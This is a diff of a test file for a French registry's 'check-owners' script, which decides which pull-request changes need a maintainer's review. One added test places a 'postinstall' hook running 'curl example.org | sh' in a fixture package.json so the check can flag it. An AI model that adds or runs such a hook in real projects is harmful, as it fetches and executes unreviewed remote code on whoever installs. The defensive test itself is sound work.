@@ -48,7 +48,7 @@ describe('npm run check-owners: allowed changes', () => {
     expect(result.status).toBe(0);
     expect(result.stdout).toContain(`${ALICE_DECLARATION} : espace de alice-conseil, dont @alice-conseil est un compte.`);
     expect(result.stdout).toContain('content/prestataires/alice-conseil.md : espace de alice-conseil');
-    expect(result.stdout).toMatch(/2 fichiers modifiés depuis main \([0-9a-f]{7}\) : @alice-conseil a le droit de tous les changer\.$/m);
+    expect(result.stdout).toMatch(/2 fichiers modifiés depuis main \([0-9a-f]{7}\), tous dans l'espace de @alice-conseil : rien ne bloque sa demande\.$/m);
   });
 
   it('lets a maintainer change anything, the rules and other providers’ files included', () => {
@@ -60,7 +60,7 @@ describe('npm run check-owners: allowed changes', () => {
     commit(dir, 'maintenance');
     const result = checkOwners(dir, 'Equipe-Compagnie'); // handles are case-insensitive
     expect(result.status).toBe(0);
-    expect(result.stdout).toContain('content/regles/2024-01-01.yaml : @Equipe-Compagnie est mainteneur.');
+    expect(result.stdout).toContain("content/regles/2024-01-01.yaml : réservé aux mainteneurs (les règles de l'association) ; @Equipe-Compagnie est mainteneur.");
     expect(result.stdout).toContain('3 fichiers modifiés depuis main');
   });
 
@@ -74,6 +74,26 @@ describe('npm run check-owners: allowed changes', () => {
     expect(result.status).toBe(0);
     expect(result.stdout).toContain('content/prestataires/dora-conseil.md : espace de dora-conseil, nouveau profil dont @dora-gh est un compte.');
   });
+
+  it('lets a newcomer’s pull request turn green by itself, CODEOWNERS regenerated in it included', () => {
+    const dir = repository();
+    run('codeowners', [], dir);
+    commit(dir, 'CODEOWNERS');
+    branch(dir);
+    write(dir, 'content/prestataires/dora-conseil.md', NEW_PROFILE);
+    expect(run('codeowners', [], dir).status).toBe(0);
+    commit(dir, 'nouveau profil, CODEOWNERS régénéré');
+    const result = checkOwners(dir, 'Dora-GH');
+    expect(result.status, result.stdout + result.stderr).toBe(0);
+    expect(result.stdout).toContain(".github/CODEOWNERS : identique à ce qu'écrit npm run codeowners pour cette demande.");
+    expect(run('codeowners', ['--check'], dir).status).toBe(0);
+    // A CODEOWNERS edited by hand (here: the newcomer also named on alice's space) is not.
+    edit(dir, '.github/CODEOWNERS', '/content/declarations/alice-conseil/ @alice-conseil', '/content/declarations/alice-conseil/ @alice-conseil @Dora-GH');
+    commit(dir, 'à la main');
+    const edited = checkOwners(dir, 'Dora-GH');
+    expect(edited.status).toBe(1);
+    expect(edited.stdout).toContain(".github/CODEOWNERS : réservé aux mainteneurs (la liste des relecteurs (CODEOWNERS, générée par npm run codeowners)) ; relecture d'un mainteneur obligatoire");
+    }, 180_000); // four processes in a row
 
   it('counts only the branch’s own commits, not those merged on main since it started', () => {
     const dir = repository();
@@ -137,7 +157,7 @@ describe('npm run check-owners: forbidden changes', () => {
     const result = checkOwners(dir, 'alice-conseil');
     expect(result.status).toBe(1);
     expect(result.stdout).toContain(
-      "content/regles/2026-01-01.yaml est réservé aux mainteneurs (les règles de l'association) : @alice-conseil ne peut pas le créer. Proposez ce changement à un mainteneur (@equipe-compagnie).",
+      "content/regles/2026-01-01.yaml : réservé aux mainteneurs (les règles de l'association) ; relecture d'un mainteneur obligatoire : la vérification passera au vert quand un mainteneur (@equipe-compagnie) aura approuvé la demande.",
     );
   });
 
@@ -149,6 +169,28 @@ describe('npm run check-owners: forbidden changes', () => {
     const result = checkOwners(dir, 'alice-conseil');
     expect(result.status).toBe(1);
     expect(result.stdout).toContain('le nouveau profil content/prestataires/dora-conseil.md doit lister @alice-conseil dans comptes_forge (comptes : Dora-GH)');
+  });
+
+  it('needs a maintainer for code and a mission budget, and passes once one has approved', () => {
+    const dir = repository();
+    write(dir, 'package.json', '{ "name": "registre" }\n');
+    commit(dir, 'package.json');
+    branch(dir);
+    edit(dir, 'package.json', '"registre"', '"registre", "scripts": { "postinstall": "curl example.org | sh" }');
+    edit(dir, 'content/missions/mission-terminee.md', 'budget_eur: 6500', 'budget_eur: 65000');
+    commit(dir, 'budget');
+    const result = checkOwners(dir, 'alice-conseil');
+    expect(result.status).toBe(1);
+    expect(result.stdout).not.toContain('a le droit');
+    const lines = result.stdout.split('\n');
+    // Code first.
+    expect(lines[0]).toBe("package.json : code ou configuration du projet, relecture du code obligatoire ; relecture d'un mainteneur obligatoire : la vérification passera au vert quand un mainteneur (@equipe-compagnie) aura approuvé la demande.");
+    expect(lines[1]).toContain('content/missions/mission-terminee.md : une mission : son équipe, ses dates et son statut font les situations des prestataires');
+    expect(result.stdout).toContain("2 fichiers attendent l'approbation d'un mainteneur, sur 2 depuis main");
+    expect(run('check-owners', ['--author', 'alice-conseil', '--base', 'main', '--approbations', 'bruno-coop'], dir).status).toBe(1);
+    const approved = run('check-owners', ['--author', 'alice-conseil', '--base', 'main', '--approbations', 'bruno-coop,equipe-compagnie'], dir);
+    expect(approved.status).toBe(0);
+    expect(approved.stdout).toContain('package.json : code ou configuration du projet, relecture du code obligatoire ; approuvé par @equipe-compagnie (mainteneur).');
   });
 
   it('refuses an unknown base or a missing author in French (exit 2)', () => {
